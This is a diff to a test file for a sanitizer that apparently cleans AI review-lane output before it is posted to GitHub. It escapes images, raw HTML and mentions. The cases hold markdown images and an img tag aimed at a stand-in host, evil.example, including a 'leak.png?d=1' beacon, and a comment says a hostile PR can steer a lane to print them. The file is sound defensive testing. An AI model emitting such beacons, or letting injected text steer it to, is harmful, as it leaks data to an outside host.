@@ -104,7 +104,21 @@ describe('remote images become plain links', () => {
       '```md\n![x](https://t.example/a.png)\n```',
       '```md\n![x](https://t.example/a.png)\n```',
     ],
-    ['an image in an inline code span is left as code', 'use `![x](y)` syntax', 'use `![x](y)` syntax'],
+    // What looks like a code span may not be one for GitHub (a span across lines, backticks in an
+    // attribute or an autolink): image syntax loses its "!" there too; other code is left alone.
+    ['image syntax in an inline code span', 'use `![x](y)` syntax', 'use `[x](y)` syntax'],
+    ['a macro in an inline code span is left alone', 'use `vec![1, 2]` here', 'use `vec![1, 2]` here'],
+    [
+      'an image between autolinks whose text holds backticks',
+      'See <http://x.example/`> ![chart](http://evil.example/a.png) <http://y.example/`>',
+      // The first `<` is shown as text, so the backticks pair into a real code span, image inert.
+      'See &lt;http://x.example/`> [chart](http://evil.example/a.png) <http://y.example/`>',
+    ],
+    [
+      'an image after a code span that crosses a line',
+      'start `open\nclose` ![c](http://evil.example/c.png) `x`',
+      'start `open\nclose` [c](http://evil.example/c.png) `x`',
+    ],
     // Forms that got an image past the cleaner (a hostile PR can steer a lane to print them).
     [
       'an image nested in an image',
@@ -127,6 +141,47 @@ describe('remote images become plain links', () => {
       '    ```\n[ind](https://evil.example/i)\n[image](<https://evil.example/j.png>)',
     ],
   ])('%s', (_name, input, out) => expect(sanitizeLaneOutput(input)).toBe(out));
+});
+
+describe('raw HTML is shown as text', () => {
+  it.each([
+    [
+      'an HTML block that would read a fence and an image as HTML',
+      '<div>\n```\n<img src="http://evil.example/leak.png?d=1">\n```\n</div>',
+      '&lt;div>\n```\n<img src="http://evil.example/leak.png?d=1">\n```\n&lt;/div>',
+    ],
+    ['a raw heading', '<h2>Consensus</h2>', '&lt;h2>Consensus&lt;/h2>'],
+    [
+      'an open <details> that would fold every later lane',
+      '<details>\n<summary>more</summary>\n\nx',
+      '&lt;details>\n&lt;summary>more&lt;/summary>\n\nx',
+    ],
+    [
+      'a processing instruction and a declaration that hide text',
+      '<?hidden note ?> <!DOCTYPE x>',
+      '&lt;?hidden note ?> &lt;!DOCTYPE x>',
+    ],
+    ['a comparison stays readable', 'a < b and x<3', 'a < b and x<3'],
+  ])('%s', (_name, input, out) => expect(sanitizeLaneOutput(input)).toBe(out));
+});
+
+describe('line ends GitHub honours', () => {
+  it.each([
+    [
+      'CRLF: a setext heading is demoted, an open fence closed',
+      'Consensus\r\n---\r\nAll LOW\r\n```\r\nunclosed\r\n',
+      '#### Consensus\nAll LOW\n```\nunclosed\n```\n',
+    ],
+    [
+      'a lone CR ends a line too',
+      'Fine.\r## Good Review\rLGTM\r```\rtrailing',
+      'Fine.\n#### Good Review\nLGTM\n```\ntrailing\n```\n',
+    ],
+  ])('%s', (_name, input, out) => expect(demoteHeadings(sanitizeLaneOutput(input))).toBe(out));
+
+  it('a closing fence followed by a non-breaking space does not close it (GitHub agrees)', () => {
+    expect(sanitizeLaneOutput('```\nx\n```\u00A0\nend')).toBe('```\nx\n```\u00A0\nend\n```\n');
+  });
 });
 
 describe('hidden comments and markers', () => {
@@ -184,6 +239,11 @@ describe('mentions', () => {
       'ping @\u2060octocat and @\u2060org/team',
     ],
     ['an address is not a mention', 'mail a@b.example', 'mail a@b.example'],
+    [
+      'mentions after punctuation and as an entity',
+      'cc &#64;octocat, [@octocat], ping,@octocat',
+      'cc @\u2060octocat, [@\u2060octocat], ping,@\u2060octocat',
+    ],
     ['a mention in code stays as code', 'run `npm i @scope/pkg`', 'run `npm i @scope/pkg`'],
   ])('%s', (_name, input, out) => expect(sanitizeLaneOutput(input)).toBe(out));
 
